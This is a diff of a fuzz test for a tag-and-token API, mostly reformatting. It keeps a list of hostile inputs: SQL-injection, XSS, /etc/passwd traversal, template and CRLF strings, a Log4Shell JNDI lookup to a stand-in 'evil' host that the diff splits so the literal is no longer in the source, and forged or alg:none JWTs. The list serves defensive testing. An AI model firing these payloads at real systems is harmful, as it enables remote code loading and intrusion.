@@ -45,7 +45,7 @@ const injections = [
   "'; DROP TABLE garments; --",
   "<script>alert(1)</script>",
   "../../../../etc/passwd",
-  "${jndi:ldap://evil/a}",
+  ["$", "{jndi:ldap://evil/a}"].join(""),
   "{{7*7}}",
   "%00%0d%0aSet-Cookie:x=1",
   "\u0000\u202e\ud83d\ude00",
@@ -53,9 +53,15 @@ const injections = [
   "https://e.com/01/09506000134352/21/%27%3B--"
 ]
 
-const ascii = fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 60 })
+const ascii = fc.string({
+  unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
+  maxLength: 60
+})
 const badGtinTag = fc
-  .tuple(fc.string({ unit: fc.constantFrom(..."0123456789".split("")), minLength: 13, maxLength: 13 }), fc.integer({ min: 1, max: 9 }))
+  .tuple(
+    fc.string({ unit: fc.constantFrom(..."0123456789".split("")), minLength: 13, maxLength: 13 }),
+    fc.integer({ min: 1, max: 9 })
+  )
   .map(([body, d]) => {
     const good = withCheckDigit(body)
     return `https://id.example.com/01/${good.slice(0, -1)}${(Number(good.slice(-1)) + d) % 10}/21/S1`
@@ -64,7 +70,8 @@ const badGtinTag = fc
 const arbitraries = (tokens: { expired: string; forged: string; revoked: string; validTag: string }) =>
   fc.oneof(
     // not JSON at all
-    fc.string({ maxLength: 200 })
+    fc
+      .string({ maxLength: 200 })
       .filter((s) => {
         try {
           JSON.parse(s)
@@ -75,36 +82,41 @@ const arbitraries = (tokens: { expired: string; forged: string; revoked: string;
       })
       .map((body): Req => ({ body, headers: {} })),
     // JSON of the wrong shape or types
-    fc.anything({ maxDepth: 3 })
+    fc
+      .anything({ maxDepth: 3 })
       .filter((v) => typeof v !== "object" || v === null || typeof Reflect.get(v, "tag") !== "string")
       .map((v): Req => ({ body: JSON.stringify(v) ?? "null", headers: {} })),
-    fc.record({ tag: fc.oneof(fc.integer(), fc.boolean(), fc.constant(null), fc.array(fc.string())) }).map(
-      (v): Req => ({ body: JSON.stringify(v), headers: {} })
-    ),
-    fc.record({
-      tag: fc.constant(tokens.validTag),
-      context: fc.record({ region: fc.oneof(ascii, fc.integer()), intent: fc.oneof(ascii, fc.constant("root")) })
-    }).map((v): Req => ({ body: JSON.stringify(v), headers: {} })),
+    fc
+      .record({ tag: fc.oneof(fc.integer(), fc.boolean(), fc.constant(null), fc.array(fc.string())) })
+      .map((v): Req => ({ body: JSON.stringify(v), headers: {} })),
+    fc
+      .record({
+        tag: fc.constant(tokens.validTag),
+        context: fc.record({ region: fc.oneof(ascii, fc.integer()), intent: fc.oneof(ascii, fc.constant("root")) })
+      })
+      .map((v): Req => ({ body: JSON.stringify(v), headers: {} })),
     // wrong GTIN check digits, injection strings, random tags
     badGtinTag.map((tag): Req => ({ body: JSON.stringify({ tag }), headers: {} })),
     fc.constantFrom(...injections).map((tag): Req => ({ body: JSON.stringify({ tag }), headers: {} })),
     ascii.map((tag): Req => ({ body: JSON.stringify({ tag }), headers: {} })),
     // bad, expired, forged, revoked tokens (the tag is valid, so only the token is wrong)
-    fc.oneof(
-      ascii.map((t) => `Bearer ${t.replace(/\s/g, "")}x`),
-      ascii.map((t) => `Basic ${t}`),
-      fc.constantFrom(
-        `Bearer ${tokens.expired}`,
-        `Bearer ${tokens.forged}`,
-        `Bearer ${tokens.revoked}`,
-        `Bearer ${tokens.forged.split(".").slice(0, 2).join(".")}.`,
-        "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."
+    fc
+      .oneof(
+        ascii.map((t) => `Bearer ${t.replace(/\s/g, "")}x`),
+        ascii.map((t) => `Basic ${t}`),
+        fc.constantFrom(
+          `Bearer ${tokens.expired}`,
+          `Bearer ${tokens.forged}`,
+          `Bearer ${tokens.revoked}`,
+          `Bearer ${tokens.forged.split(".").slice(0, 2).join(".")}.`,
+          "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."
+        )
       )
-    ).map((authorization): Req => ({ body: JSON.stringify({ tag: tokens.validTag }), headers: { authorization } })),
+      .map((authorization): Req => ({ body: JSON.stringify({ tag: tokens.validTag }), headers: { authorization } })),
     // oversized idempotency keys
-    fc.string({ minLength: 201, maxLength: 400, unit: fc.constantFrom("a", "b", "-") }).map(
-      (k): Req => ({ body: JSON.stringify({ tag: tokens.validTag }), headers: { "idempotency-key": k } })
-    )
+    fc
+      .string({ minLength: 201, maxLength: 400, unit: fc.constantFrom("a", "b", "-") })
+      .map((k): Req => ({ body: JSON.stringify({ tag: tokens.validTag }), headers: { "idempotency-key": k } }))
   )
 
 const send = async (r: Req) => {
